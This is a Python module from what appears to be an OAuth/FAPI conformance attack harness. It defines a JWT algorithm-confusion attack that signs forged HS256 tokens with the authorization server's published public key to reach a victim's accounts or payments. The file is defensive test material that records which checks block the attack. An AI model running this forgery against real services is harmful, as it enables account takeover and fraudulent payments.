"""jwt-hs256-key-confusion: HS256 keyed with the AS's published public key, AS kid.

The A1 attacker fetches the AS's JWKS (public), takes the key's PEM as an HMAC secret
and names the AS's kid. A verifier that takes alg from the token and hands "the key"
to HMAC accepts it (RFC 8725 §2.1, §3.1; FAPI2 §5.4.1).
"""

from __future__ import annotations

from typing import Any

from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.forge import (
    as_metadata,
    as_public_keys,
    spend_forged,
    victim_facts,
)
from attacker.forged_jws import public_pem, sign_hs256
from attacker.outcome import AttackSetupError
from attacker.premises import linked_victim

from .jwt_alg_none import PREMISE


def run(ctx: AttackContext) -> None:
    linked_victim(ctx)
    facts = victim_facts(ctx)
    published = as_public_keys(ctx, as_metadata(ctx))
    key = next((k for k in published if k.get("kty") in ("EC", "RSA") and k.get("kid")), None)
    if key is None:
        raise AttackSetupError("the AS publishes no key with a kid")
    secret = public_pem(key)
    ctx.step("attacker", f"uses the PEM of the AS's public key {key['kid']} as an HMAC secret")

    def sign(header: dict[str, Any], claims: dict[str, Any]) -> str:
        return sign_hs256(header, claims, secret)

    spend_forged(ctx, facts, sign, {"kid": key["kid"]})


ATTACK = Attack(
    id="jwt-hs256-key-confusion", attacker="A1", legs=("token", "resource"), victim="prior",
    title="HS256 keyed with the AS's published public key, AS `kid`",
    blocked_by=("alg_allow_list",),
    premise=PREMISE + " Reads the AS's published JWKS.",
    goal="the victim's balances or a payment to mallory", run=run,
    refs=("RFC 8725 §2.1, §3.1", "FAPI2 §5.4.1"),
    also_blocked_by={
        "consent_per_account":
            "a forged token names no grant the user consented to, so the per-account check "
            "finds no consented account",
    },
)
